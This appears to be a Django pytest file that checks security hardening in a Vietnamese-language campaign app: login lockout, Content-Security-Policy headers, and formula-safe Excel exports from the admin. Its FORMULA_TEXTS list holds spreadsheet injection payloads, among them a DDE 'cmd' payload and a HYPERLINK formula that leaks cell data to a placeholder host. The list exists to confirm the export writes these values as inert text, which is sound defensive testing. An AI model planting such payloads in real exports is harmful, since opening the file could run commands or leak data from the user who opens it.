"""Hardening a user never sees until it matters: throttled sign-in, CSP, formula-safe exports."""

import pytest
from django.test import override_settings
from django.urls import reverse

from campaigns.enums import Role

pytestmark = pytest.mark.django_db

AXES_ON = {
    "AXES_ENABLED": True,
    "AUTHENTICATION_BACKENDS": [
        "axes.backends.AxesStandaloneBackend",
        "campaigns.backends.RoleAwareBackend",
        "rules.permissions.ObjectPermissionBackend",
    ],
}


@override_settings(**AXES_ON, AXES_FAILURE_LIMIT=3)
def test_sign_in_is_refused_after_repeated_failures_even_with_the_right_password(client, make_user):
    make_user("canbo", Role.STAFF)
    for _ in range(3):
        client.post(reverse("login"), {"username": "canbo", "password": "sai-mat-khau"})

    response = client.post(reverse("login"), {"username": "canbo", "password": "mat-khau-thu"})

    assert response.status_code == 429
    assert "Tạm khóa đăng nhập" in response.text
    assert "_auth_user_id" not in client.session


@override_settings(**AXES_ON, AXES_FAILURE_LIMIT=3)
def test_another_user_is_not_locked_out_by_someone_elses_failures(client, make_user):
    make_user("canbo", Role.STAFF)
    make_user("lanhdao", Role.LEADER)
    for _ in range(3):
        client.post(reverse("login"), {"username": "canbo", "password": "sai-mat-khau"})

    response = client.post(reverse("login"), {"username": "lanhdao", "password": "mat-khau-thu"})

    assert response.status_code == 302
    assert client.session["_auth_user_id"]


def test_pages_carry_a_content_security_policy_without_inline_scripts(client):
    policy = client.get(reverse("login")).headers["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["script-src"] == "'self'"
    assert directives["default-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"


def test_no_template_has_an_inline_script():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "templates"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.html")
        for line in path.read_text().splitlines()
        if "<script" in line and "src=" not in line
    ]
    assert offenders == []


# --- Formula-safe exports: the Django admin's Excel exports --------------------------------------

# Text a spreadsheet would run: "=" starts a formula ("==" too: the library dropped one "=" and
# wrote the rest as a live formula), "+", "-" and "@" start one as typed, a tab or CR lead DDE payloads.
FORMULA_TEXTS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
    '==HYPERLINK("http://example.invalid","Nguyễn Văn A")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def formula_texts(prefix: str) -> list[str]:
    return [f"{text}{prefix}" for text in FORMULA_TEXTS]


def admin_export(client, url_name) -> list:
    """The cells of the workbook the admin's export sends, every field chosen, as Excel reads them."""
    from io import BytesIO

    from openpyxl import load_workbook

    form = client.get(reverse(url_name)).context["form"]
    chosen = [name for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)]
    data = {"format": "0", "resource": "0"} | dict.fromkeys(chosen, "on")
    response = client.post(reverse(url_name), data)
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_written_as_text(cells, texts):
    """Each text is in a cell typed text and marked to stay text when edited; CR reads back as LF."""
    expected = {text.replace("\r", "\n") for text in texts}
    shown = [cell for cell in cells if isinstance(cell.value, str) and cell.value.replace("\r", "\n") in expected]
    assert sorted(cell.value.replace("\r", "\n") for cell in shown) == sorted(expected)
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in shown] == [
        (cell.value, "s", True) for cell in shown
    ]


def test_the_unit_export_writes_formula_like_names_as_text(client, make_user):
    from tests.factories import UnitFactory

    client.force_login(make_user("thuky", Role.SECRETARY))
    names = formula_texts(" – đơn vị")
    for number, name in enumerate(names):
        UnitFactory(code=f"dv-{number}", name=name)

    assert_written_as_text(admin_export(client, "admin:campaigns_unit_export"), names)


def test_the_person_export_writes_formula_like_names_and_positions_as_text(client, make_user):
    from tests.factories import PersonFactory

    client.force_login(make_user("thuky", Role.SECRETARY))
    names, positions = formula_texts(" – họ tên"), formula_texts(" – chức vụ")
    for number, (name, position) in enumerate(zip(names, positions, strict=True)):
        PersonFactory(code=f"cb-{number}", full_name=name, position=position)

    assert_written_as_text(admin_export(client, "admin:campaigns_person_export"), names + positions)


def test_the_account_export_writes_formula_like_names_and_usernames_as_text(client, make_user):
    from tests.factories import UserFactory

    client.force_login(make_user("quantri", Role.ADMINISTRATOR, person=False))
    names = formula_texts(" – tài khoản")
    usernames = ["-quantri2", "+quantri3", "@quantri4"]
    for number, name in enumerate(names):
        UserFactory(username=usernames[number] if number < len(usernames) else f"tk{number}", first_name=name)

    assert_written_as_text(admin_export(client, "admin:auth_user_export"), names + usernames)


def test_the_criterion_export_writes_formula_like_names_and_guidance_as_text(client, make_user):
    from tests.factories import CampaignFactory, CriterionFactory

    client.force_login(make_user("thuky", Role.SECRETARY))
    campaign = CampaignFactory()
    names, guidance = formula_texts(" – tiêu chí"), formula_texts(" – hướng dẫn")
    for number, (name, text) in enumerate(zip(names, guidance, strict=True)):
        CriterionFactory(campaign=campaign, code=f"TC{number}", name=name, guidance=text)

    assert_written_as_text(admin_export(client, "admin:criteria_criterion_export"), names + guidance)
